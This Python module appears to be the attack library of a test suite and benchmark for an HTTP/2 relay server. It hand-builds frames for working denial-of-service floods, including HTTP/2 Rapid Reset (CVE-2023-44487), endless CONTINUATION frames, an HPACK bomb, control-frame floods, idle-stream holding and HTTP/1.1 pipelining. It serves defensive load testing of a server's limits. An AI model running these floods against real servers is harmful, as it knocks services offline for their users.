# The attacks of the flood tests and the flood benchmark: raw HTTP/2 frames (and pipelined HTTP/1.1), each
# a plan of byte batches. Invariant: frames are made by hand (hpack only for header blocks), cheap to send.
"""Each attack is a `Plan`: given the connection's `Ending` (where the driver, h2attacks.py, notes
what the server said, windows included), the batches of bytes to send after the opening, forever;
the driver stops it. `PLANS` names them for the command line."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
ENHANCE_YOUR_CALM = 0xB
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 0x1, 0x4
MAX_WINDOW = (1 << 31) - 1
SEND_BATCH = 64 * 1024
"""Bytes of frames written per send: big enough to flood, small enough to stop soon at the deadline."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", key, value) for key, value in pairs))


def opening(*pairs: tuple[int, int]) -> bytes:
    """The preface, our SETTINGS (a wide-open window to us, so responses never stall), a connection
    WINDOW_UPDATE to match (to 2^30: a flood of small ones may still add to it without overflow)."""
    return (
        PREFACE
        + settings((INITIAL_WINDOW_SIZE, MAX_WINDOW), *pairs)
        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30) - 65535))
    )


def request_block(path: str, *extra: tuple[str, str], method: str = "GET") -> bytes:
    """A header block for `method` `path` that leaves no trace in the server's HPACK table (never
    indexed), so the same bytes can open any number of streams."""
    fields = [(":method", method), (":scheme", "http"), (":authority", "relay"), (":path", path), *extra]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(name, value) for name, value in fields])


@dataclass
class Ending:
    """How an attack ended, as its client saw it."""

    name: str
    seconds: float = 0.0
    """From the first byte sent to the end (the server's close, or the attack's own deadline)."""
    closed_by_server: bool = False
    goaway: int | None = None
    """The error code of the first GOAWAY the server sent (None: none came)."""
    goaway_at: float | None = None
    goaway_debug: str = ""
    """Its additional debug data (pipe-relay names the budget the client spent)."""
    sent: int = 0
    streams: int = 0
    """Streams opened."""
    received: int = 0
    answered: int = 0
    """Streams the server ended (END_STREAM) or reset."""
    resets: int = 0
    first_status: bytes = b""
    told_to_close: bool = False
    """An HTTP/1.1 reply said `Connection: close` (the server's way to end a pipelining client)."""
    """The first bytes the server sent on an HTTP/1.1 attack (the start of its first response)."""
    notes: list[str] = field(default_factory=list)
    initial_window: int = 65535
    """The server's SETTINGS_INITIAL_WINDOW_SIZE (flow control: what we may send on a new stream)."""
    connection_window: int = 65535
    stream_windows: dict[int, int] = field(default_factory=dict)
    """What the server's flow control lets us send (kept only by the attacks that respect it)."""

    def window(self, stream_id: int) -> int:
        return min(self.connection_window, self.stream_windows.get(stream_id, self.initial_window))

    def spend(self, stream_id: int, size: int) -> None:
        self.connection_window -= size
        self.stream_windows[stream_id] = self.stream_windows.get(stream_id, self.initial_window) - size

    @property
    def ended_after(self) -> float | None:
        """Seconds until the server told the attacker to go (GOAWAY) or closed on it; None: never."""
        if self.goaway_at is not None:
            return self.goaway_at
        return self.seconds if self.closed_by_server else None


Plan = Callable[[Ending], Iterator[bytes]]
"""An attack: after the opening, batches of bytes to send, forever (the driver stops it)."""


def rapid_reset(path: str = "/rapid-reset") -> Plan:
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream (CVE-2023-44487)."""
    block = request_block(path)

    def plan(ending: Ending) -> Iterator[bytes]:
        stream_id = 1
        while True:
            batch = bytearray()
            while len(batch) < SEND_BATCH and stream_id < MAX_WINDOW:
                batch += frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block)
                batch += frame(RST_STREAM, 0, stream_id, struct.pack(">I", 0x8))
                stream_id += 2
                ending.streams += 1
            yield bytes(batch)

    return plan


def continuation(size: int = 16 * 1024) -> Plan:
    """One HEADERS without END_HEADERS, then CONTINUATION frames of `size` bytes that never end the
    block (CVE-2024-27316): the server must refuse the block as it grows."""

    def plan(ending: Ending) -> Iterator[bytes]:
        ending.streams = 1
        yield frame(HEADERS, END_STREAM, 1, request_block("/continuation"))
        filler = b"\x00" * size  # (index 0 would be a decoding error: it must not be decoded yet)
        while True:
            yield frame(CONTINUATION, 0, 1, filler) * max(1, SEND_BATCH // size)

    return plan


def hpack_bomb(path: str = "/version", entry: int = 4000, refs: int = 15, window: int = 100) -> Plan:
    """One big header put into the server's HPACK table, then requests that name it `refs` times
    each (one byte per reference): `window` requests at most in flight, so no stream limit is hit."""
    base = hpack.Encoder()
    head = [(":method", "GET"), (":scheme", "http"), (":authority", "relay"), (":path", path)]
    plain = base.encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in head])
    first = plain + _literal_indexed(b"x-bomb", b"b" * entry)
    again = plain + b"\xbe" * refs  # (index 62: the newest entry of the dynamic table)

    def plan(ending: Ending) -> Iterator[bytes]:
        stream_id = 1
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream_id, first)
        ending.streams = 1
        while True:
            batch = bytearray()
            while ending.streams - ending.answered < window and len(batch) < SEND_BATCH:
                stream_id += 2
                batch += frame(HEADERS, END_STREAM | END_HEADERS, stream_id, again)
                ending.streams += 1
            yield bytes(batch)

    return plan


def pages(path: str = "/version", window: int = 100) -> Plan:
    """Requests for a small page, `window` at most in flight, as fast as they are answered: streams
    that are not pipe parties (the HPACK bomb without the bomb)."""
    return hpack_bomb(path, entry=1, refs=0, window=window)


def discarded_data(path: str = "/", size: int = 64) -> Plan:
    """A page request with our window shut, then DATA on it without end, in frames of `size` bytes:
    a body nobody reads, so the server drops it and gives the window back at once. Small frames
    cost the server more than they cost us: its socket never runs dry."""

    def plan(ending: Ending) -> Iterator[bytes]:
        ending.streams = 1
        count = SEND_BATCH // (size + 9)
        chunk = frame(DATA, 0, 1, b"d" * size) * count
        yield settings((INITIAL_WINDOW_SIZE, 0)) + frame(HEADERS, END_HEADERS, 1, request_block(path))
        while True:
            if ending.window(1) < size * count:  # (within the server's flow control: a lawful client)
                yield b""
                continue
            ending.spend(1, size * count)
            yield chunk

    return plan


def _literal_indexed(name: bytes, value: bytes) -> bytes:
    """A literal header field with incremental indexing and a new name (RFC 7541 6.2.1), no Huffman."""
    return b"\x40" + _string(name) + _string(value)


def _string(text: bytes) -> bytes:
    return _integer(len(text), 7) + text


def _integer(value: int, prefix: int) -> bytes:
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes((value,))
    out = bytearray((limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def control_flood(kind: str) -> Plan:
    """A flood of one control frame: ping, settings, window_update, priority, or empty_data (on an
    open upload stream)."""

    def plan(ending: Ending) -> Iterator[bytes]:
        prefix = b""
        if kind == "empty_data":
            prefix = frame(HEADERS, END_HEADERS, 1, request_block("/empty-data-flood", method="PUT"))
            ending.streams = 1
        one = {
            "ping": frame(PING, 0, 0, b"12345678"),
            "settings": settings((INITIAL_WINDOW_SIZE, MAX_WINDOW)),
            "window_update": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
            "priority": frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 15)),
            "empty_data": frame(DATA, 0, 1),
        }[kind]
        batch = one * (SEND_BATCH // len(one))
        yield prefix + batch
        while True:
            yield batch

    return plan


def idle_streams(streams: int = 128, upload: int = 8 << 20, path: str = "/") -> Plan:
    """`streams` requests for a page with our window shut (SETTINGS_INITIAL_WINDOW_SIZE 0 comes
    first), then `upload` bytes of DATA spread over them, as far as the server's windows let them."""

    def plan(ending: Ending) -> Iterator[bytes]:
        block = request_block(path)
        batch = bytearray(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)))
        ids = [1 + 2 * index for index in range(streams)]
        for stream_id in ids:
            batch += frame(HEADERS, END_HEADERS, stream_id, block)
        ending.streams = streams
        yield bytes(batch)
        chunk = b"u" * 16384
        per_stream = max(16384, upload // streams)
        for stream_id in ids:
            for _ in range(per_stream // 16384):
                yield frame(DATA, 0, stream_id, chunk)
        while True:
            yield b""  # (then holds the streams open, sending nothing)

    return plan


def huge_table(origins: int = 5000, size: int = 8 * 1024) -> Plan:
    """SETTINGS_HEADER_TABLE_SIZE 2^31-1, then requests each with a new `size`-byte Origin, which the
    server reflects in its CORS headers (its encoder would keep every one)."""

    def plan(ending: Ending) -> Iterator[bytes]:
        yield settings((HEADER_TABLE_SIZE, MAX_WINDOW))
        encoder = hpack.Encoder()
        for index in range(origins):
            origin = f"https://{index:08d}.example/" + "o" * size
            head = [(":method", "GET"), (":scheme", "http"), (":authority", "relay"), (":path", "/version")]
            block = encoder.encode([*head, ("origin", origin[:size])])
            ending.streams += 1
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, block)
            while ending.streams - ending.answered > 100:
                yield b""  # (the driver reads meanwhile)
        while True:
            yield b""

    return plan


def huffman(per_second: float = 40, size: int = 8 * 1024) -> Plan:
    """`per_second` requests, each with a `size`-byte header value Huffman-coded (never indexed: the
    same bytes every time, so it costs us nothing to make): under the decoded-bytes budget, but
    Huffman decoding costs the server about ten times what the decoded bytes say."""
    head = [(":method", "GET"), (":scheme", "http"), (":authority", "relay"), (":path", "/version")]
    block = hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(n, v) for n, v in [*head, ("x-h", "h" * size)]]
    )

    def plan(ending: Ending) -> Iterator[bytes]:
        started = time.monotonic()
        while True:
            if ending.streams < (time.monotonic() - started) * per_second:
                ending.streams += 1
                yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * ending.streams - 1, block)
            else:
                yield b""

    return plan


def pipelined(path: str = "/version") -> Plan:
    """HTTP/1.1 keep-alive requests back to back on one connection, never waiting for an answer."""
    request = f"GET {path} HTTP/1.1\r\nHost: relay\r\n\r\n".encode()

    def plan(ending: Ending) -> Iterator[bytes]:
        batch = request * (SEND_BATCH // len(request))
        count = SEND_BATCH // len(request)
        while True:
            ending.streams += count
            yield batch

    return plan


PLANS: dict[str, Callable[[], Plan]] = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "hpack": hpack_bomb,
    "ping": lambda: control_flood("ping"),
    "settings": lambda: control_flood("settings"),
    "window_update": lambda: control_flood("window_update"),
    "priority": lambda: control_flood("priority"),
    "empty_data": lambda: control_flood("empty_data"),
    "idle_streams": idle_streams,
    "pages": pages,
    "discarded_data": discarded_data,
    "huge_table": huge_table,
    "huffman": huffman,
    "pipelined": pipelined,
}
HTTP1 = frozenset({"pipelined"})
